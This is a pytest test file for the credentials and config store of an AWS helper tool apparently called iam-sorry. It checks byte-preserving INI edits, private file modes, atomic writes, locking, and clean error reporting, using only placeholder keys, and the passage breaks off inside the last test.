"""Profile store: byte-preserving edits, atomic writes, modes, locking."""

from __future__ import annotations

import io
import os
import random
import re
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import SCRIPT, FakeAws, assert_clean_error, creds_file, iamsorry, lock_held, run_all, run_cli

NASTY = (
    "# my credentials, hand-edited\r\n"
    "; a semicolon comment\r\n"
    "\r\n"
    "[default]\r\n"
    "aws_access_key_id = AKIADEFAULTDEFAULT01\r\n"
    "AWS_Secret_Access_Key=defaultsecret\r\n"
    "\r\n"
    "# keep me: comment before sue\r\n"
    "[sue]\r\n"
    "aws_access_key_id = ASIAOLDOLDOLDOLDOLD1\r\n"
    "aws_secret_access_key = oldsecret\r\n"
    "aws_session_token = tok\r\n"
    "    continued-token-line\r\n"
    "expiration = 2020-01-01T00:00:00Z\r\n"
    "credentials_owner = sue\r\n"
    "x_other_tool: keep-me\r\n"
    "\r\n"
    "[other]   ; inline remark\r\n"
    "aws_access_key_id = AKIAOTHEROTHEROTHER1\r\n"
    "aws_secret_access_key = othersecret\r\n"
    "# trailing comment\r\n"
)


def test_parse_tolerates_crlf_comments_continuations_and_case(private_home: Path) -> None:
    path = creds_file(private_home)
    path.write_bytes(NASTY.encode())
    profiles = iamsorry.read_aws_credentials(str(path))
    assert list(profiles) == ["default", "sue", "other"]
    assert profiles["default"]["aws_secret_access_key"] == "defaultsecret"
    assert profiles["default"]["AWS_SECRET_ACCESS_KEY"] == "defaultsecret"
    assert profiles["sue"]["aws_session_token"] == "tok\ncontinued-token-line"
    assert profiles["sue"]["x_other_tool"] == "keep-me"
    assert profiles["sue"]["credentials_owner"] == "sue"


def test_editing_one_section_leaves_every_other_byte(private_home: Path) -> None:
    path = creds_file(private_home)
    path.write_bytes(NASTY.encode())
    store = iamsorry.Store()
    with store.edit() as s:
        s.creds.set(
            "sue",
            {
                "aws_access_key_id": "ASIANEWNEWNEWNEWNEW1",
                "aws_session_token": "newtok",
                "expiration": "2030-01-01T00:00:00Z",
            },
        )
    after = path.read_bytes().decode()
    start, end = NASTY.index("[sue]"), NASTY.index("\r\n[other]")
    before_sue, after_sue = NASTY[:start], NASTY[end:]
    assert after.startswith(before_sue)
    assert after.endswith(after_sue)
    middle = after[len(before_sue) : len(after) - len(after_sue)]
    assert middle == (
        "[sue]\r\naws_access_key_id = ASIANEWNEWNEWNEWNEW1\r\naws_secret_access_key = oldsecret\r\n"
        "aws_session_token = newtok\r\nexpiration = 2030-01-01T00:00:00Z\r\ncredentials_owner = sue\r\n"
        "x_other_tool: keep-me\r\n"
    )


def test_new_section_is_appended_and_removal_takes_exactly_its_lines(private_home: Path) -> None:
    path = creds_file(private_home)
    path.write_bytes(NASTY.encode())
    with iamsorry.Store().edit() as s:
        s.creds.set("new", {"aws_access_key_id": "AKIANEWNEWNEWNEWNEW1", "aws_secret_access_key": "x"})
    text = path.read_bytes().decode()
    assert text.startswith(NASTY)
    assert (
        text[len(NASTY) :] == "\r\n[new]\r\naws_access_key_id = AKIANEWNEWNEWNEWNEW1\r\naws_secret_access_key = x\r\n"
    )
    with iamsorry.Store().edit() as s:
        assert s.creds.remove("new")
        assert s.creds.remove("other")
    text = path.read_bytes().decode()
    assert (
        text
        == NASTY.replace(
            "[other]   ; inline remark\r\naws_access_key_id = AKIAOTHEROTHEROTHER1\r\n"
            "aws_secret_access_key = othersecret\r\n",
            "",
        )
        + "\r\n"
    )


def test_unchanged_store_is_not_rewritten(private_home: Path) -> None:
    path = creds_file(private_home)
    path.write_bytes(NASTY.encode())
    os.chmod(path, 0o600)
    inode = path.stat().st_ino
    with iamsorry.Store().edit() as s:
        s.creds.set("sue", {"credentials_owner": "sue"})
    assert path.stat().st_ino == inode


def test_a_credentials_edit_leaves_the_config_alone(private_home: Path) -> None:
    path, cfg = creds_file(private_home), private_home / ".aws" / "config"
    path.write_text("[a]\n")
    path.chmod(0o600)
    with iamsorry.Store().edit() as s:
        s.creds.set("a", {"k": "v"})
    assert not cfg.exists()  # not created empty
    cfg.write_text("[profile a]\nregion = eu-west-1\n")
    inode = cfg.stat().st_ino
    with iamsorry.Store().edit() as s:
        s.creds.set("a", {"k": "w"})
    assert cfg.stat().st_ino == inode  # not rewritten


@pytest.mark.parametrize(
    ("text", "line", "what"),
    [
        ("[a]\naws_access_key_id = x\nthis line is nonsense\n", 3, "cannot parse"),
        ("aws_access_key_id = x\n[a]\n", 1, "outside any [section]"),
        ("[a]\nk = 1\n[b]\nk = 2\n[a]\n", 5, "duplicate section"),
        ("[a]\nk = 1\nK = 2\n", 3, "duplicate key"),
    ],
)
def test_malformed_file_names_file_and_line_and_nothing_is_written(
    private_home: Path, text: str, line: int, what: str
) -> None:
    path = creds_file(private_home)
    path.write_text(text)
    os.chmod(path, 0o600)
    with pytest.raises(iamsorry.StoreError) as err:
        iamsorry.read_aws_credentials()
    assert f"{path}:{line}:" in str(err.value) and what in str(err.value)
    assert "nonsense" not in str(err.value)  # a bad line may be a secret: never echoed
    proc = run_cli("--fix-profiles")
    assert_clean_error(proc, f"{path}:{line}")
    assert path.read_text() == text
    assert not (private_home / ".aws" / "config").exists()


def test_credentials_created_0600_and_config_keeps_its_mode(private_home: Path) -> None:
    cfg = private_home / ".aws" / "config"
    cfg.parent.mkdir()
    cfg.write_text("[default]\nregion = eu-west-1\n")
    os.chmod(cfg, 0o640)
    iamsorry.update_profile_credentials(
        "sue",
        {
            "AccessKeyId": "ASIAAAAAAAAAAAAAAAA1",
            "SecretAccessKey": "s",
            "SessionToken": "t",
            "Expiration": "2030-01-01T00:00:00Z",
        },
        "sue",
    )
    with iamsorry.Store().edit() as s:
        s.config.set("profile sue", {"region": "eu-west-1"})
    creds = private_home / ".aws" / "credentials"
    assert stat.S_IMODE(creds.stat().st_mode) == 0o600
    assert stat.S_IMODE(cfg.stat().st_mode) == 0o640
    assert "[profile sue]\nregion = eu-west-1\n" in cfg.read_text()


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o660, 0o666, 0o601, 0o610])
def test_wide_credentials_file_is_tightened_with_one_warning(private_home: Path, mode: int) -> None:
    path = creds_file(private_home)
    path.write_text("[static]\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\naws_secret_access_key = s\n")
    os.chmod(path, mode)
    proc = run_cli("--fix-profiles")
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr.count(f"was mode {mode:o}; tightened to 600") == 1
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.mark.parametrize("existing", [None, 0o644])
def test_new_credentials_file_is_private_from_its_creation(
    private_home: Path, monkeypatch: pytest.MonkeyPatch, existing: int | None
) -> None:
    """With umask 000 nothing hides a wide creation mode: every file the store
    creates (temp file, lock) must be 0600 the instant it exists, not after a
    later chmod or _tighten, also when it replaces a wider file."""
    if existing is not None:
        creds_file(private_home).write_text("[a]\n")
        creds_file(private_home).chmod(existing)
    created: dict[str, int] = {}
    real_open = os.open

    def spy(path: str, flags: int, mode: int = 0o777, *args: object, **kw: object) -> int:
        fd = real_open(path, flags, mode, *args, **kw)  # type: ignore[arg-type]
        if flags & os.O_CREAT:
            created[os.path.basename(path)] = stat.S_IMODE(os.fstat(fd).st_mode)
        return fd

    old_umask = os.umask(0)
    try:
        monkeypatch.setattr(os, "open", spy)
        iamsorry.update_profile_credentials(
            "sue",
            {"AccessKeyId": "ASIAAAAAAAAAAAAAAAA1", "SecretAccessKey": "s", "SessionToken": "t", "Expiration": None},
            "sue",
        )
    finally:
        os.umask(old_umask)
    temps = [name for name in created if name.startswith(".credentials.") and name.endswith(".tmp")]
    assert len(temps) == 1 and "credentials.lock" in created, created
    assert {name: created[name] for name in (*temps, "credentials.lock")} == dict.fromkeys(
        (*temps, "credentials.lock"), 0o600
    )
    if existing is None:  # the folder, too, is made private
        assert stat.S_IMODE((private_home / ".aws").stat().st_mode) == 0o700
    assert stat.S_IMODE((private_home / ".aws" / "credentials").stat().st_mode) == 0o600


def test_symlinked_credentials_file_keeps_its_link(private_home: Path, tmp_path: Path) -> None:
    real = tmp_path / "dotfiles-credentials"
    real.write_text("[a]\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\naws_secret_access_key = s\n")
    link = creds_file(private_home)
    link.symlink_to(real)
    with iamsorry.Store().edit() as s:
        s.creds.set("b", {"aws_access_key_id": "AKIAYYYYYYYYYYYYYYY1", "aws_secret_access_key": "t"})
    assert link.is_symlink()
    assert "[b]" in real.read_text()
    # The lock is the real file's, so a home that reaches it by another path (or by
    # AWS_SHARED_CREDENTIALS_FILE) waits for this writer instead of losing its update.
    assert (tmp_path / "dotfiles-credentials.lock").exists() and not Path(f"{link}.lock").exists()


def test_a_byte_order_mark_an_editor_wrote_is_kept(private_home: Path) -> None:
    """Every byte outside the touched section stays, the mark at the start
    included; the section on the first line is still read as one."""
    path = creds_file(private_home)
    path.write_bytes(b"\xef\xbb\xbf[a]\r\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\r\naws_secret_access_key = s\r\n")
    path.chmod(0o600)
    assert iamsorry.read_aws_credentials()["a"]["aws_access_key_id"] == "AKIAXXXXXXXXXXXXXXX1"
    with iamsorry.Store().edit() as s:
        s.creds.set("b", {"aws_access_key_id": "AKIAYYYYYYYYYYYYYYY1", "aws_secret_access_key": "t"})
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf[a]\r\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\r\n") and b"[b]\r\n" in data


def test_env_paths_are_honoured_by_the_store_and_the_cli(private_home: Path, tmp_path: Path) -> None:
    creds, cfg = tmp_path / "elsewhere" / "c", tmp_path / "elsewhere" / "cfg"
    env = {"AWS_SHARED_CREDENTIALS_FILE": str(creds), "AWS_CONFIG_FILE": str(cfg)}
    creds.parent.mkdir()
    creds.write_text("[svc]\naws_access_key_id = AKIASVCSVCSVCSVCSVC1\naws_secret_access_key = s\n")
    creds.chmod(0o600)
    proc = run_cli("--add-process-profile", "svc", env=env)  # writes the config file
    assert proc.returncode == 0, proc.stderr
    assert "[profile svc-auto]" in cfg.read_text()
    assert "AKIASVCSVCSVCSVCSVC1" in run_cli("--eval", "svc", "--shell", "sh", env=env).stdout
    assert (tmp_path / "elsewhere" / "c.lock").exists()  # the lock sits next to the file it guards
    assert not (private_home / ".aws").exists()  # ~/.aws was never read, written or locked


_WRITER = """
import importlib.machinery, sys
m = importlib.machinery.SourceFileLoader('iamsorry', sys.argv[1]).load_module()
name = sys.argv[2]
m.update_profile_credentials(name, {'AccessKeyId': 'ASIA' + name.upper().ljust(16, 'X'),
    'SecretAccessKey': 's-' + name, 'SessionToken': 't-' + name,
    'Expiration': '2030-01-01T00:00:00Z'}, name)
"""


def test_fifty_parallel_writers_lose_nothing(private_home: Path) -> None:
    path = creds_file(private_home)
    path.write_text("# keep\n[base]\naws_access_key_id = AKIABASEBASEBASEBAS1\naws_secret_access_key = b\n")
    done = run_all([[sys.executable, "-c", _WRITER, str(SCRIPT), f"p{i}"] for i in range(50)], timeout=300)
    assert [p.returncode for p in done] == [0] * 50, [p.stderr for p in done if p.returncode][:3]
    profiles = iamsorry.read_aws_credentials()
    assert set(profiles) == {"base"} | {f"p{i}" for i in range(50)}
    assert path.read_text().startswith("# keep\n[base]\n")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


_LOOPER = """
import importlib.machinery, itertools, os, sys
m = importlib.machinery.SourceFileLoader('iamsorry', sys.argv[1]).load_module()
real_open, real_replace = os.open, os.replace
def spy_open(path, *args, **kw):
    if str(path).endswith('.tmp'):
        os.write(1, b'c')  # a temp file is about to exist: a write is under way
    return real_open(path, *args, **kw)
def spy_replace(*args):
    real_replace(*args)
    os.write(1, b'r')  # renamed into place: the write is done
os.open, os.replace = spy_open, spy_replace
print('ready', flush=True)
for i in itertools.count():
    m.update_profile_credentials('churn', {'AccessKeyId': 'ASIACHURN%011d' % i, 'SecretAccessKey': 'x' * (i % 300),
        'SessionToken': 't' * (1 + i % 500), 'Expiration': '2030-01-01T00:00:00Z'}, 'churn')
"""


def test_writer_killed_at_random_points_never_corrupts(private_home: Path) -> None:
    path = creds_file(private_home)
    keep = "".join(
        f"# c{i}\n[keep{i}]\naws_access_key_id = AKIAKEEP{i:012d}\naws_secret_access_key = k\n\n" for i in range(20)
    )
    path.write_text(keep)
    rng = random.Random(1234)
    mid_write = 0  # kills that landed between a temp file's creation and its rename
    for _ in range(100):
        proc = subprocess.Popen([sys.executable, "-c", _LOOPER, str(SCRIPT)], stdout=subprocess.PIPE)
        try:
            assert proc.stdout is not None and proc.stdout.readline() == b"ready\n"
            time.sleep(rng.uniform(0, 0.03))
        finally:  # it writes for ever: killed whatever happened
            proc.send_signal(signal.SIGKILL)
            code = proc.wait()
        assert code == -signal.SIGKILL  # it was still writing, not dead of an error
        mid_write += proc.stdout.read().endswith(b"c")
        profiles = iamsorry.read_aws_credentials()
        assert {f"keep{i}" for i in range(20)} <= set(profiles)
        assert path.read_text().startswith(keep)
    assert mid_write >= 5, f"only {mid_write} of 100 kills landed during a write: the test proved little"
    leftovers = [p for p in path.parent.iterdir() if p.name.endswith(".tmp")]
    assert len(leftovers) <= mid_write  # a kill mid-write may leave its temp file, never a broken store


def test_lock_times_out_with_a_message_naming_the_lock(private_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    creds_file(private_home)
    with lock_held(private_home / ".aws" / "credentials.lock"):  # killed (SIGKILL) at the end of the block
        proc = run_cli("--fix-profiles", env={"IAM_SORRY_LOCK_TIMEOUT": "0.5"})
        assert_clean_error(proc, "credentials.lock", "timed out")
    # A dead holder blocks no one.
    assert run_cli("--fix-profiles", env={"IAM_SORRY_LOCK_TIMEOUT": "5"}).returncode == 0


def test_threads_of_one_process_do_not_lose_each_others_writes(private_home: Path) -> None:
    """The lock is re-entrant per thread, not per process: a long-running
    service refreshing two sessions at once must not lose one."""
    import threading

    creds_file(private_home)

    def writer(name: str) -> None:
        for i in range(30):
            with iamsorry.Store().edit() as s:
                s.creds.set(f"{name}{i}", {"aws_access_key_id": "AKIAXXXXXXXXXXXXXXX1", "aws_secret_access_key": "x"})

    threads = [threading.Thread(target=writer, args=(n,)) for n in ("a", "b", "c")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert set(iamsorry.read_aws_credentials()) == {f"{n}{i}" for n in "abc" for i in range(30)}


def test_write_failures_are_clean_errors(
    private_home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = creds_file(private_home)
    path.write_text("[a]\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\naws_secret_access_key = s\n")

    def quota(*args: object) -> None:
        raise OSError(122, "Disk quota exceeded")

    monkeypatch.setattr(os, "replace", quota)
    assert iamsorry.main(["--fix-profiles"]) == 3
    err = capsys.readouterr().err
    errors = [line for line in err.splitlines() if line.startswith("iam-sorry: error:")]
    assert errors == [f"iam-sorry: error: cannot write {path.parent / 'config'}: Disk quota exceeded"]  # config first
    assert "Traceback" not in err
    assert not (private_home / ".aws" / "config").exists()
    assert not [p for p in path.parent.iterdir() if p.name.endswith(".tmp")]
    monkeypatch.undo()
    assert_clean_error(run_cli("--fix-profiles", env={"IAM_SORRY_LOCK_TIMEOUT": "soon"}), "IAM_SORRY_LOCK_TIMEOUT")


def test_aws_profile_naming_a_session_profile_is_not_taken_for_the_manager(manager: FakeAws) -> None:
    proc = run_cli("sue-data", env={"AWS_PROFILE": "sue"})
    assert proc.returncode == 0, proc.stderr
    assert manager.whoami(manager.profiles()["sue-data"]).endswith("user/iam-sorry/sue-data")


def test_several_managers_must_be_chosen(manager: FakeAws) -> None:
    text = (manager.home / ".aws" / "credentials").read_text()
    sealed = iamsorry.read_aws_credentials()["sue-mgr"]
    text += (
        f"\n[other-mgr]\naws_access_key_id = {sealed['aws_access_key_id']}\n"
        f"aws_secret_access_key = {sealed['aws_secret_access_key']}\n"
    )
    (manager.home / ".aws" / "credentials").write_text(text)
    assert_clean_error(run_cli("sue-x"), "several manager profiles", "sue-mgr", "other-mgr")
    assert run_cli("sue-x", "--profile", "sue-mgr").returncode == 0
    assert run_cli("sue-y", env={"AWS_PROFILE": "sue-mgr"}).returncode == 0


def test_profile_is_a_case_insensitive_mapping_on_every_path(private_home: Path) -> None:
    import collections.abc

    creds_file(private_home).write_text("[p]\nAWS_Access_Key_ID = AKIAXXXXXXXXXXXXXXX1\naws_secret_access_key = s\n")
    profile = iamsorry.read_aws_credentials()["p"]
    assert isinstance(profile, collections.abc.Mapping)
    assert profile["aws_access_key_id"] == profile["AWS_ACCESS_KEY_ID"] == "AKIAXXXXXXXXXXXXXXX1"
    assert profile.get("Aws_Access_Key_Id") == "AKIAXXXXXXXXXXXXXXX1"
    assert profile.get("AWS_SESSION_TOKEN", "none") == "none"
    assert "AWS_SECRET_ACCESS_KEY" in profile and 3 not in profile
    assert dict(profile.items()) == {"aws_access_key_id": "AKIAXXXXXXXXXXXXXXX1", "aws_secret_access_key": "s"}
    assert list(profile.keys()) == list(profile) == ["aws_access_key_id", "aws_secret_access_key"]
    assert profile == {"aws_access_key_id": "AKIAXXXXXXXXXXXXXXX1", "aws_secret_access_key": "s"}
    assert not hasattr(profile, "setdefault") and not hasattr(profile, "__setitem__")
    with pytest.raises(KeyError):
        profile[1]  # type: ignore[index]
    assert "AKIA" not in repr(profile)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("[a]\nk = 1", "[a]\nk = 1\n\n[b]\nx = y\n"),  # no final newline
        ("[a]\nk = 1\nj = 2", "[a]\nk = 1\nj = 2\n\n[b]\nx = y\n"),
        ("[a]\nk = 1\n", "[a]\nk = 1\n\n[b]\nx = y\n"),
        ("[a]\nk = 1\n\n", "[a]\nk = 1\n\n[b]\nx = y\n"),  # already a blank line: no second one
        ("", "[b]\nx = y\n"),
    ],
)
def test_a_new_section_is_separated_by_exactly_one_blank_line(before: str, after: str) -> None:
    ini = iamsorry.IniFile("f", before)
    ini.set("b", {"x": "y"})
    assert ini.text() == after


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("[a]\nk = 1", "[a]\nk = 1\nnew = v\n"),  # no final newline
        ("[a]\nk = 1\n[b]\n", "[a]\nk = 1\nnew = v\n[b]\n"),
        ("[a]\ntok = x\n    more\n[b]\n", "[a]\ntok = x\n    more\nnew = v\n[b]\n"),  # after a continuation
        ("[a]\n[b]\nk = 1\n", "[a]\nnew = v\n[b]\nk = 1\n"),  # a section with no keys yet
        ("# top\n[a]\nk = 1\n", "# top\n[a]\nk = 1\nnew = v\n"),
    ],
)
def test_a_new_key_goes_after_the_sections_last_line(before: str, after: str) -> None:
    ini = iamsorry.IniFile("f", before)
    ini.set("a", {"new": "v"})
    assert ini.text() == after
    assert ini.get("a") == {**(iamsorry.IniFile("g", before).get("a") or {}), "new": "v"}


def test_a_profile_only_in_config_says_so(private_home: Path) -> None:
    creds_file(private_home).write_text("[a]\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\naws_secret_access_key = s\n")
    (private_home / ".aws" / "config").write_text("[profile cfg]\nregion = eu-west-1\n")
    store = iamsorry.Store().load()
    with pytest.raises(iamsorry.ProfileNotFound, match=r"\(only in config\)"):
        store.require("cfg")
    with pytest.raises(iamsorry.ProfileNotFound) as err:
        store.require("ghost")
    assert "only in config" not in str(err.value)


def test_an_unreadable_credentials_file_is_a_store_error(private_home: Path) -> None:
    path = creds_file(private_home)
    path.symlink_to(path.name)  # a link to itself: open() fails with ELOOP, even for root
    with pytest.raises(iamsorry.StoreError, match="cannot read"):
        iamsorry.read_aws_credentials()


def test_a_failed_edit_releases_the_lock(private_home: Path) -> None:
    path = creds_file(private_home)
    path.write_text("[a]\nthis line is nonsense\n")
    with pytest.raises(iamsorry.StoreError), iamsorry.Store().edit():
        pass
    probe = (
        "import fcntl, os, sys\n"
        "fd = os.open(sys.argv[1], os.O_RDWR)\n"
        "fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)\n"  # raises if still held
    )
    lock = str(path) + ".lock"
    assert subprocess.run([sys.executable, "-c", probe, lock], capture_output=True).returncode == 0


@pytest.mark.parametrize("line", ["aws_secret_access_key = x]y", "AWS_Secret_Access_Key = x]y", "Key: [a]b"])
def test_a_value_with_brackets_is_not_a_section(line: str) -> None:
    ini = iamsorry.IniFile("f", f"[a]\n{line}\n")
    assert list(ini.sections) == ["a"]
    key, value = (part.strip() for part in re.split("[=:]", line, maxsplit=1))
    assert ini.get("a") == {key.lower(): value}


_HOLD = (
    "import fcntl, os, sys\n"
    "fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT, 0o600)\n"
    "fcntl.flock(fd, fcntl.LOCK_EX)\nprint('held', flush=True)\nsys.stdin.read()\n"
)


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_waiting_writer_says_so_once_on_a_terminal(private_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    lock = str(creds_file(private_home)) + ".lock"
    holder = subprocess.Popen(
        [sys.executable, "-c", _HOLD, lock], stdout=subprocess.PIPE, stdin=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
        screen = _Terminal()
        monkeypatch.setattr(iamsorry.UI, "stream", screen)
        with pytest.raises(iamsorry.StoreError, match="timed out"), iamsorry._StoreLock(lock, timeout=0.5):
            pass
    finally:
        holder.kill()
        holder.wait()
    assert screen.getvalue().count(f"waiting for {lock} ...") == 1


def test_a_file_that_cannot_be_tightened_is_left_without_a_claim(
    private_home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Someone else's file, or one on a read-only mount: chmod fails; say nothing false, raise nothing."""
    path = creds_file(private_home)
    path.write_text("[a]\n")
    path.chmod(0o644)

    def refuse(*args: object) -> None:
        raise PermissionError(1, "Operation not permitted")

    monkeypatch.setattr(iamsorry.UI, "stream", sys.stderr)
    with monkeypatch.context() as local:
        local.setattr(os, "chmod", refuse)
        iamsorry._tighten(str(path))
    assert "tightened" not in capsys.readouterr().err
    iamsorry._tighten(str(path))  # the control: chmod works, the claim is made
    assert "tightened to 600" in capsys.readouterr().err


@pytest.mark.parametrize(("line", "number"), [("[]", 2), ("[unclosed", 2), ("= value", 3)])
def test_an_empty_section_name_or_key_cannot_be_parsed(line: str, number: int) -> None:
    text = "[a]\nk = 1\n" + line + "\n" if number == 3 else "[a]\n" + line + "\n"
    with pytest.raises(iamsorry.StoreError, match=f"f:{number}: cannot parse"):
        iamsorry.IniFile("f", text)


def test_removing_a_missing_section_changes_nothing() -> None:
    ini = iamsorry.IniFile("f", "[a]\nk = 1\n")
    assert ini.remove("ghost") is False
    assert ini.text() == "[a]\nk = 1\n"


def test_a_credentials_file_that_is_not_utf8_is_a_store_error(private_home: Path) -> None:
    creds_file(private_home).write_bytes(b"[a]\nk = caf\xe9\n")
    with pytest.raises(iamsorry.StoreError, match=r"not UTF-8 text \(byte 11\)"):
        iamsorry.read_aws_credentials()


def test_the_store_lock_is_reentrant_and_held_until_the_outer_exit(private_home: Path) -> None:
    lock = str(creds_file(private_home)) + ".lock"
    probe = "import fcntl, os, sys\nfcntl.flock(os.open(sys.argv[1], os.O_RDWR), fcntl.LOCK_EX | fcntl.LOCK_NB)\n"

    def free() -> bool:
        return subprocess.run([sys.executable, "-c", probe, lock], capture_output=True).returncode == 0

    with iamsorry._StoreLock(lock):
        with iamsorry._StoreLock(lock):
            assert not free()
        assert not free()  # the inner exit must not release it
    assert free()


def test_config_profiles_are_default_and_profile_sections_only(private_home: Path) -> None:
    (private_home / ".aws").mkdir()
    (private_home / ".aws" / "config").write_text(
        "[another]\nk = 1\n[default]\nregion = a\n[profile p]\nregion = b\n[sso-session s]\nk = 2\n"
    )
    assert iamsorry.read_aws_config() == {"default": {"region": "a"}, "p": {"region": "b"}}


def test_a_sealed_value_stays_sealed_without_auto_decrypt(private_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading the file never talks to ssh-agent unless asked to decrypt."""
    sealed = "__encrypted__:v2:9kJwVQsOXYSld9Od2EyoRULVhZdkChebE64H0/3Ekjg:AAAA"
    creds_file(private_home).write_text(f"[m]\naws_access_key_id = {sealed}\naws_secret_access_key = {sealed}\n")
    monkeypatch.setenv("SSH_AUTH_SOCK", "/nonexistent/agent.sock")
    profile = iamsorry.read_aws_credentials()["m"]
    assert profile["aws_access_key_id"] == sealed and profile.sealed()


def test_the_one_sealed_profile_is_the_manager(private_home: Path) -> None:
    sealed = "__encrypted__:v2:FP:AAAA"
    creds_file(private_home).write_text(
        f"[plain]\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\n[m]\naws_access_key_id = {sealed}\n"
    )
    assert iamsorry.select_manager(iamsorry.Store().load()) == "m"
    creds_file(private_home).write_text("[plain]\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\n")
    assert iamsorry.select_manager(iamsorry.Store().load()) is None
    creds_file(private_home).write_text("[iam-sorry]\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\n")
    assert iamsorry.select_manager(iamsorry.Store().load()) == "iam-sorry"  # the 0.2.x name


def test_several_sealed_profiles_need_a_choice(private_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sealed = "__encrypted__:v2:FP:AAAA"
    creds_file(private_home).write_text(f"[m1]\naws_access_key_id = {sealed}\n[m2]\naws_access_key_id = {sealed}\n")
    with pytest.raises(iamsorry.UsageError, match="several manager profiles: m1, m2"):
        iamsorry.select_manager(iamsorry.Store().load())
    monkeypatch.setenv("AWS_PROFILE", "m2")
    assert iamsorry.select_manager(iamsorry.Store().load()) == "m2"
    assert iamsorry.select_manager(iamsorry.Store().load(), "m1") == "m1"
    session = "[sue]\naws_access_key_id = ASIAXXXXXXXXXXXXXXX1\n"
    creds_file(private_home).write_text(f"[m]\naws_access_key_id = {sealed}\n{session}")
    monkeypatch.setenv("AWS_PROFILE", "sue")  # a session profile, not a manager
    assert iamsorry.require_manager(iamsorry.Store().load()) == "m"
    creds_file(private_home).write_text(session)
    with pytest.raises(iamsorry.ProfileNotFound, match="no manager profile"):
        iamsorry.require_manager(iamsorry.Store().load())


def test_a_private_file_is_not_tightened_nor_warned_about(
    private_home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = creds_file(private_home)
    path.write_text("[a]\n")
    path.chmod(0o600)
    monkeypatch.setattr(iamsorry.UI, "stream", sys.stderr)
    iamsorry._tighten(str(path))
    assert capsys.readouterr().err == ""
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_a_config_file_in_a_new_folder_gets_a_private_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cfg = tmp_path / "new" / "config"
    monkeypatch.setenv("AWS_CONFIG_FILE", str(cfg))
    old_umask = os.umask(0)
    try:
        with iamsorry.Store().edit() as s:
            s.config.set("profile p", {"region": "eu-west-1"})
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(cfg.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(cfg.stat().st_mode) == 0o600  # a new config file starts private too
    assert cfg.read_text() == "[profile p]\nregion = eu-west-1\n"


@pytest.mark.parametrize("fault", [OSError(28, "No space left on device"), OSError("disk gone")])
def test_a_failed_write_reports_its_own_error_even_if_cleanup_fails(
    private_home: Path, monkeypatch: pytest.MonkeyPatch, fault: OSError
) -> None:
    path = creds_file(private_home)

    def fail(*args: object) -> None:
        raise fault

    def unlink_fails(*args: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", fail)
    monkeypatch.setattr(os, "unlink", unlink_fails)
    with pytest.raises(iamsorry.StoreError) as err:
        iamsorry.atomic_write(str(path), "[a]\n", secret=True)
    assert str(err.value) == f"cannot write {path}: {fault.strerror or fault}"


def test_every_config_change_is_written(private_home: Path) -> None:
    cfg = private_home / ".aws" / "config"
    cfg.parent.mkdir()
    cfg.write_text("[profile p]\nregion = z\n[profile q]\nregion = y\n")
    for change, after in (
        (("profile p", {"region": "a"}), "[profile p]\nregion = a\n[profile q]\nregion = y\n"),  # sorts lower
        (("profile q", {"region": None}), "[profile p]\nregion = a\n[profile q]\n"),  # shorter
    ):
        with iamsorry.Store().edit() as s:
            s.config.set(*change)
        assert cfg.read_text() == after


def test_config_sections_are_named_profile_x_except_default() -> None:
    assert [iamsorry.config_section(p) for p in ("default", "abc", "zed")] == ["default", "profile abc", "profile zed"]


def test_a_key_right_after_its_name_parses() -> None:
    assert iamsorry.IniFile("f", "[a]\nk=v\nj:w\n").get("a") == {"k": "v", "j": "w"}


def test_the_lock_waits_two_minutes_by_default(private_home: Path) -> None:
    assert iamsorry._StoreLock(str(creds_file(private_home)) + ".lock").timeout == 120  # as the README says


def test_an_edited_config_keeps_every_mode_bit(private_home: Path) -> None:
    cfg = private_home / ".aws" / "config"
    cfg.parent.mkdir()
    cfg.write_text("[default]\nregion = a\n")
    cfg.chmod(0o751)
    with iamsorry.Store().edit() as s:
        s.config.set("default", {"region": "b"})
    assert stat.S_IMODE(cfg.stat().st_mode) == 0o751 and cfg.read_text() == "[default]\nregion = b\n"


@pytest.mark.parametrize("holder_is_main", [True, False])
def test_another_thread_waits_for_the_lock(private_home: Path, holder_is_main: bool) -> None:
    """Re-entrant for the holding thread only: any other thread waits (here: times out)."""
    import threading

    lock = str(creds_file(private_home)) + ".lock"
    held, done = threading.Event(), threading.Event()
    outcome: list[str] = []

    def hold() -> None:
        with iamsorry._StoreLock(lock):
            held.set()
            done.wait(30)

    def contend() -> None:
        try:
            with iamsorry._StoreLock(lock, timeout=0.3):
                outcome.append("entered")
        except iamsorry.StoreError:
            outcome.append("timed out")

